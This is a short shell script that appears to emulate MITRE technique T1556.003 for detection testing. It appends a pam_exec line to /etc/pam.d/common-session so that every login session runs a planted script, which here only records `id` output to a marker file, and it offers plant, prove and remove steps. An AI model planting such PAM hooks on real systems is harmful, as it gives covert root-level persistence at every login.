#!/bin/sh
# T1556.003 (loud): pam_exec hands every opened session to a script
M=/var/tmp/luytre-foothold N=17-pam-exec
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
plant() {
  keep /etc/pam.d/common-session
  x /usr/lib/pam-audit/session <<'E'
#!/bin/sh
[ "$PAM_TYPE" = open_session ] && id > /var/tmp/luytre-foothold/17-pam-exec
exit 0
E
  echo 'session optional pam_exec.so quiet /usr/lib/pam-audit/session' >>/etc/pam.d/common-session
}
prove() {
  rm -f "$M/$N"
  su - quantri -c true
  seen
}
remove() {
  back /etc/pam.d/common-session; rm -rf /usr/lib/pam-audit
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
